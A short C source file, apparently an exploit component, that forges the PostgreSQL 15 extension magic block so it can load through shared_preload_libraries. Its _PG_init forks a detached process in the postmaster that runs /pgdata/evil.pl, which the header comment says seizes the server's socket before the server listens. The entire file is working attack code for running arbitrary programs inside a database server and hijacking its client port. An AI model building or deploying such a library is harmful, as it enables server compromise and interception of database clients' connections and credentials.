/*
 * A library for shared_preload_libraries of Postgres 15, compiled without the
 * server's headers. In the postmaster, before that listens, it starts a program
 * that takes the place of its socket.
 */
#include <unistd.h>

/* fmgr.h */
struct magic {
	int len, version, funcmaxargs, indexmaxkeys, namedatalen, float8byval;
	char abi_extra[32];
};

const struct magic *Pg_magic_func(void)
{
	static const struct magic data = {sizeof(struct magic), 1500, 100, 32, 64, 1, "PostgreSQL"};

	return &data;
}

void _PG_init(void)
{
	if (fork() == 0) {
		setsid();
		execl("/usr/bin/perl", "perl", "/pgdata/evil.pl", (char *) 0);
		_exit(1);
	}
}
